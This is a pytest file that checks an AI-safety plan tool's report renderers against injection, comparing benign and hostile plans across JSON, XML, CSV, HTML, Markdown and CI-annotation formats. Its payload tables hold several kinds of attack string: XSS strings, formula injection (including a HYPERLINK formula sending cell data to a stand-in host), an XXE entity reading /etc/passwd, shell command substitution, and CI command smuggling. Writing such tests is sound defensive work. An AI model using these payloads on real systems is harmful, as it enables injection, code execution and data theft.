"""Strings of a plan cannot break out of any format: payloads × string fields × formats, compared with a benign plan."""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ElementTree
from collections.abc import Callable
from dataclasses import replace
from datetime import date
from functools import cache
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import sample
from markdown_it import MarkdownIt

from aisafe_cli.domain.catalog import Catalog, Ladder
from aisafe_cli.domain.formats import MARKDOWN_KINDS, REPORTERS
from aisafe_cli.domain.plan import Evidence, EvidenceState, Plan
from aisafe_cli.domain.policy import Policy
from aisafe_cli.domain.verdict import Result, Run
from aisafe_cli.evaluation.evaluate import evaluate
from aisafe_cli.gate.verdict import judge
from aisafe_cli.loading.catalog import load_catalog, load_ladder
from aisafe_cli.loading.plan import load_plan
from aisafe_cli.reporters import View, render
from aisafe_cli.text.unicode import says_something

BENIGN = "word"
PAYLOADS = {
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "attribute": "\" onmouseover='alert(1)' x=\"",
    "entities": "&lt;b&gt; &#x3c;i&#x3e; &amp;amp;",
    "comment": "--> <!-- ]]> <![CDATA[ ?>",
    "style": "</style></title></textarea></svg><script>1</script>",
    "markdown-table": "a | b | c || d",
    "markdown-marks": "*a* **b** _c_ __d__ ~~e~~ `f` ``g`` $h$ \\",
    "markdown-link": "[a](javascript:alert(1)) ![b](http://x.example/y.png) <http://z.example> [c]: http://d.example",
    "markdown-block": "# heading",
    "markdown-list": "- item",
    "markdown-number": "1. item",
    "markdown-rule": "---",
    "markdown-setext": "===",
    "markdown-fence": "```sh",
    "markdown-quote": "> quote",
    "autolink": "http://evil.example https://evil.example www.evil.example me@evil.example",
    "mention": "@team #123 GH-1 user/repo#1",
    "template": "{{ 7 * 7 }}{% for x in y %}{# z #}${HOME}",
    "command": "::error file=x,line=1::y",
    "command-inside": "a ::set-output name=x::y ##[add-mask]z ##vso[task.complete] ##teamcity[x] section_start:1:x",
    "percent": "%0A::error::x %25 %0D",
    "formula": "=cmd|'/c calc'!A1",
    "formula-plus": "+1+1",
    "formula-at": "@SUM(1)",
    "csv": 'a","b\';c,d',
    "json": '"}],"passed":true,"x":[{"',
    "sarif": "{0} {{1}} [a](2) {placeholder}",
    "path": "../../etc/passwd",
    "right-to-left": "שלום עולם مرحبا",
    "emoji": "👩‍👩‍👧 é ﬀ ⅷ",
    "long-word": "x" * 1900,
    "long-text": "word " * 380 + "end",
    "spaces": "a   b",
    "backslash": "\\\\server\\share \\| \\` \\n",
    "yaml": "a: b # c",
}
# Each of these is tried in some fields by itself, and in every field together with others.
MORE_PAYLOADS = {
    # HTML: every context that a text can stand in, and readers that forgive.
    "html-half": "<script",
    "html-slash": "</",
    "html-svg": "<svg/onload=alert(1)><math><mi//xlink:href='javascript:1'>",
    "html-iframe": "<iframe srcdoc='<script>1</script>'></iframe>",
    "html-upper": "<SCRIPT SRC=//x.example></SCRIPT>",
    "html-null-like": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "html-form": "<form action=//x.example><button>x</button><base href=//x.example>",
    "html-meta": "<meta http-equiv=refresh content='0;url=//x.example'>",
    "html-style": "<style>*{background:url(//x.example)}</style><link rel=stylesheet href=//x.example>",
    "html-template": "<template><slot></template><noscript><p title='</noscript><img src=x>'>",
    "html-details": "<details open ontoggle=alert(1)><summary>x</summary>",
    "attribute-backtick": "` onmouseover=alert(1) `",
    "attribute-single": "' autofocus onfocus=alert(1) '",
    "attribute-unquoted": "x onerror=alert(1) y",
    "entities-half": "&lt &#60 &#x3c &amp &quot",
    "address-script": "javascript:alert(1)//https://x.example",
    "address-data": "data:text/html;base64,PHNjcmlwdD4x",
    "address-user": "https://github.com@evil.example/",
    "address-quote": "https://x.example/'\"><script>1</script>",
    "address-scheme": "//evil.example vbscript:x file:///etc/passwd",
    # Markdown: what only some renderers read.
    "markdown-html": "<b onclick=alert(1)>x</b> <!-- y -->",
    "markdown-html-block": "<div>",
    "markdown-reference": "[x]: javascript:alert(1) 'y'",
    "markdown-reference-use": "[x][] ![x] [x]",
    "markdown-footnote": "[^1] [^1]: note",
    "markdown-task": "- [x] done",
    "markdown-table-row": "| a | b |",
    "markdown-table-rule": "|---|---|",
    "markdown-escapes": "\\* \\_ \\[ \\",
    "markdown-ticks": "` `` ``` ````",
    "markdown-tildes": "~~~",
    "markdown-plus": "+ item",
    "markdown-star": "* item",
    "markdown-bracket": "1) item",
    "markdown-stars": "***",
    "markdown-underscores": "___ a_b_c _d_",
    "markdown-math": "$$x$$ $`y`$",
    "markdown-alert": "> [!CAUTION] x",
    "markdown-emoji": ":warning: :octocat:",
    "markdown-hash": "#123 # a ## b",
    "markdown-link-nested": "[![a](b)](javascript:c) <javascript:d>",
    "markdown-indent": "code after four blanks",
    "markdown-bare": "HTTPS://EVIL.EXAMPLE ftp://x.example mailto:a@b.example xmpp:a@b.example",
    # Commands of runners, at the start, inside, and in pieces.
    "command-stop": "::stop-commands::x",
    "command-set-output": "::set-output name=passed::true",
    "command-blank-before": "\u00a0::error::x",
    "command-upper": "::ERROR::x",
    "command-group": "::group::x ::endgroup::",
    "command-mask": "##[add-mask]x",
    "command-azure": "##vso[task.setvariable variable=x]y",
    "command-teamcity": "##teamcity[buildStatus status='SUCCESS' text='x']",
    "command-section-end": "section_end:1:x section_start:2:y[collapsed=true]",
    "command-colons": ":::::: : :: :",
    "command-hashes": "##### ##a[ ## [",
    "command-half": "##",
    "command-colon": ":",
    # Spreadsheets, XML, JSON, SARIF, annotations.
    "formula-minus": "-1+1|cmd",
    "formula-tab-like": " =1+1",
    "formula-wide": "＝1+1 ＋1 －1 ＠x",
    "formula-quote": "'=1+1",
    "formula-link": '=HYPERLINK("http://x.example?"&A1,"x")',
    "csv-quotes": '"""" "," ";"',
    "xml": "]]> <?xml version='1.0'?> <!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]> &y;",
    "xml-half": "<![CDATA[",
    "json-escapes": '\\u0000 \\" \\',
    "json-script": "</script><!--<script>",
    "sarif-links": "[x](https://x.example) ](2) {{0}} {{",
    "annotation": "a,line=1,title=x::y%3A%2C",
    "percent-encoded": "%2e%2e%2f %00 %zz %",
    "path-absolute": "/etc/passwd",
    "path-windows": "C:\\Windows\\x",
    "path-scheme": "file:///etc/passwd",
    "template-other": "<%= 1 %> #{1} ${7*7} [[1]] {{constructor.constructor('1')()}}",
    "shell": "$(touch marker) `touch marker` ; touch marker | x && y",
    # Characters that are legal, and take room in odd ways.
    "wide": "漢字かな交じり文" * 12,
    "wide-word": "漢" * 900,
    "combining": "e" + "\u0301" * 60,
    "joiners": "a\u200db\u200cc\u00add",
    "blanks": "a\u00a0\u2003b\u3000c",
    "tags": "\U0001f3f4\U000e0067\U000e0062\U000e007f",
    "private": "a \ue000 \U000f0000",
    "capital-sharp": "ẞ İ ı ſ K",
}
CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def plan_with(**texts: str) -> dict[str, Any]:
    """A plan with one text in each string field; those not given are benign."""

    def text(name: str) -> str:
        found = texts.get(name, BENIGN)[: 100 if name == "channel" else None].strip()
        justifies = name in ("ref", "owner", "reason", "waiver_owner")  # such a text needs a letter or a digit
        return f"{found} x" if justifies and not says_something(found) else found

    evidence = {"ref": text("ref"), "type": "evaluation"}
    return {
        "schema_version": 1,
        "model": {
            "name": text("name"),
            "version": text("version"),
            "developer": text("developer"),
            "base_model": [text("base_model")],
            "capability": "moderate",
            "capability_evidence": [evidence],
        },
        "organization": {"role": "developer", "size": "small"},
        "channels": [
            {
                "id": "api",
                "access": "hosted_api",
                "opens": "2026-01-01",
                "url": text("url"),
                "variant": text("variant"),
            },
            {
                "id": text("channel"),
                "access": "open_weights",
                "opens": "2026-06-01",
                "variant": text("variant"),
                "license": {"name": text("license"), "url": text("license_url"), "class": "use_restricted"},
            },
        ],
        "safeguards": {
            "AB-01": {"status": "implemented", "evidence": [evidence], "owner": text("owner"), "note": text("note")},
            "AB-02": {"status": "implemented", "channels": [text("channel")]},
            "AB-05": {"status": "implemented", "owner": text("owner"), "note": text("note"), "evidence": [evidence]},
            "AB-06": {"status": "implemented", "channels": ["api"]},
            "AB-11": "planned",
        },
        "alternatives": [{"id": "companion-classifier", "note": text("adopted"), "evidence": [evidence]}],
        "waivers": [
            {
                "safeguard": "AB-11",
                "reason": text("reason"),
                "owner": text("waiver_owner"),
                "granted": "2026-01-01",
                "expires": "2026-12-31",
            }
        ],
    }


FIELDS = (
    *("name", "version", "developer", "base_model", "url", "variant", "channel", "license", "license_url"),
    *("ref", "owner", "note", "adopted", "reason", "waiver_owner"),
)


@cache
def data() -> tuple[Catalog, Ladder]:
    ladder = load_ladder()
    return load_catalog(None, ladder), ladder


@pytest.fixture(scope="module")
def rendered(tmp_path_factory: pytest.TempPathFactory) -> Callable[..., dict[str, str]]:
    path = tmp_path_factory.mktemp("plans") / "x.plan.yaml"

    def render_all(doubtful: bool = False, **texts: str) -> dict[str, str]:
        return render_everything(path, plan_with(**texts), doubtful)

    return cache(render_all)


def render_everything(path: Path, plan: dict[str, Any], doubtful: bool = False) -> dict[str, str]:
    # One entry a line, so that positions do not depend on how long the texts are.
    path.write_text(
        yaml.safe_dump(json.loads(json.dumps(plan)), sort_keys=False, allow_unicode=True, width=1_000_000),
        encoding="utf-8",
    )
    catalog, ladder = data()
    loaded = load_plan(str(path), catalog)
    report = evaluate(doubted(loaded) if doubtful else loaded, catalog, ladder, date(2026, 6, 15))
    result = Result(report=report, verdict=judge(report, Policy(strict=True, fail_under=90)))
    run = Run(results=(result,), judgments=(result.judgment,), exit_code=1, complete=True, version="0")
    texts = {name: render(name, run, View()) for name in REPORTERS}
    kinds = {f"markdown {kind}": render("markdown", run, View(kind=kind)) for kind in MARKDOWN_KINDS}
    return {**texts, "table full": render("table", run, View(full=True)), **kinds}


def doubted(plan: Plan) -> Plan:
    """The plan as if none of its evidence were there, so that reasons name what it names."""

    def absent(evidence: tuple[Evidence, ...]) -> tuple[Evidence, ...]:
        return tuple(replace(item, state=EvidenceState.ABSENT, problem="was not found") for item in evidence)

    return replace(
        plan,
        model=replace(plan.model, capability_evidence=absent(plan.model.capability_evidence)),
        claims={
            name: tuple(replace(one, evidence=absent(one.evidence)) for one in claims)
            for name, claims in plan.claims.items()
        },
        adoptions=tuple(replace(one, evidence=absent(one.evidence)) for one in plan.adoptions),
    )


# --- structure, as an independent reader sees it --------------------------------------------------------------------


def shape_of_data(value: Any) -> Any:
    if isinstance(value, dict):  # where channels are keys, their names are texts of the plan
        return {
            key: sorted(map(repr, map(shape_of_data, entry.values())))
            if key == "channels" and isinstance(entry, dict)
            else shape_of_data(entry)
            for key, entry in sorted(value.items())
        }
    return [shape_of_data(entry) for entry in value] if isinstance(value, list) else type(value).__name__


def shape_of_json(text: str) -> Any:
    return shape_of_data(json.loads(text))


def shape_of_json_lines(text: str) -> Any:
    return list(map(shape_of_json, text.splitlines()))


def shape_of_xml(text: str) -> Any:
    return [(element.tag, sorted(element.attrib), len(element)) for element in ElementTree.fromstring(text).iter()]


def shape_of_csv(text: str) -> Any:
    rows = list(csv.reader(io.StringIO(text), strict=True))
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    return [len(row) for row in rows]


def shape_of_markdown(text: str) -> Any:
    tokens = MarkdownIt("gfm-like").parse(text)
    return [
        (token.type, token.tag, [child.type for child in token.children or () if child.type != "text_special"])
        for token in tokens
    ]


def shape_of_markdown_without_text(text: str) -> Any:
    return [
        (kind, tag, [child for child in inner if child not in ("text", "softbreak")])
        for kind, tag, inner in shape_of_markdown(text)
    ]


def shape_of_html(text: str) -> Any:
    from html.parser import HTMLParser

    shape: list[Any] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
            if tag != "title":  # drawings give a text that had to be cut as a title
                shape.append((tag, sorted(name for name, _ in attributes)))

        def handle_endtag(self, tag: str) -> None:
            if tag != "title":
                shape.append(tag)

        def handle_comment(self, data: str) -> None:  # noqa: ARG002
            shape.append("comment")

        def handle_decl(self, decl: str) -> None:
            shape.append(decl)

    Reader().feed(text)
    return shape


def shape_of_text(text: str) -> Any:
    for line in text.splitlines():
        assert not line.strip().startswith("::"), line
    assert not re.search(r"##\w*\[|section_(start|end):", text)
    return None


def shape_of_annotations(text: str) -> Any:
    lines = text.splitlines()
    assert not re.search(r"##\w*\[|section_(start|end):", text)
    return [re.match(r"::(\w+) ([\w=]+)?", line.strip()) is not None for line in lines]


READERS: dict[str, Callable[[str], Any]] = {
    "table": shape_of_text,
    "concise": shape_of_text,
    "json": shape_of_json,
    "jsonl": shape_of_json_lines,
    "sarif": shape_of_json,
    "gitlab": shape_of_json,
    "intoto": shape_of_json,
    "oscal": shape_of_json,
    "junit": shape_of_xml,
    "badge": shape_of_xml,
    "csv": shape_of_csv,
    "github": shape_of_annotations,
    "html": shape_of_html,
    "markdown": shape_of_markdown_without_text,
}


def reader_of(name: str) -> Callable[[str], Any]:
    return READERS[name.split(" ")[0]]


def test_every_format_has_a_reader() -> None:
    assert set(READERS) >= set(REPORTERS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_every_field_changes_no_structure(rendered: Callable[..., dict[str, str]], payload: str) -> None:
    compare(rendered(), rendered(**dict.fromkeys(FIELDS, PAYLOADS[payload])), payload)


@pytest.mark.parametrize("turn", range(0, len(MORE_PAYLOADS), 4))
def test_different_payloads_in_different_fields_change_no_structure(
    rendered: Callable[..., dict[str, str]], turn: int
) -> None:
    names = list(MORE_PAYLOADS)
    placed = {field: names[(turn + place) % len(names)] for place, field in enumerate(FIELDS)}
    texts = {field: MORE_PAYLOADS[name] for field, name in placed.items()}
    # Owners that differ have a row each in a decision record.
    compare(rendered(waiver_owner="another"), rendered(**texts), str(placed))


@pytest.mark.parametrize("field", FIELDS)
def test_all_payloads_in_one_field_change_no_structure(rendered: Callable[..., dict[str, str]], field: str) -> None:
    short = [text for text in (*PAYLOADS.values(), *MORE_PAYLOADS.values()) if len(text) < 200]
    parts = [short[::3], short[1::3], short[2::3]]  # together they would be longer than a line may be
    for part in sample(parts, 8, FIELDS.index(field)):
        compare(rendered(**{field: "another"}), rendered(**{field: " ".join(part)}), field)


@pytest.mark.parametrize("payload", sample(PAYLOADS, 9))
def test_a_payload_named_as_evidence_that_is_not_there_changes_no_structure(
    rendered: Callable[..., dict[str, str]], payload: str
) -> None:
    hostile = rendered(doubtful=True, ref=PAYLOADS[payload])
    assert "was not found" in hostile["csv"]
    compare(rendered(doubtful=True), hostile, payload)


@cache
def shape_of_benign(name: str, text: str) -> Any:
    return reader_of(name)(text)


def compare(benign: dict[str, str], hostile: dict[str, str], what: str) -> None:
    for name, text in hostile.items():
        assert reader_of(name)(text) == shape_of_benign(name, benign[name]), f"{what} as {name}"
        assert not CONTROLS.search(text), f"{what} as {name}"
        # Whoever prints a report in a job must not find its lines obeyed. Annotations are the one format of commands.
        told = re.sub("^::(error|warning|notice) .*", "", text, flags=re.MULTILINE) if name == "github" else text
        assert not re.search(r"^\s*::|##\w*\[|section_(?:start|end):", told, re.MULTILINE), f"{what} as {name}"


def test_the_badge_holds_no_text_of_a_plan(rendered: Callable[..., dict[str, str]]) -> None:
    assert rendered(name="unusualname")["badge"] == rendered()["badge"]
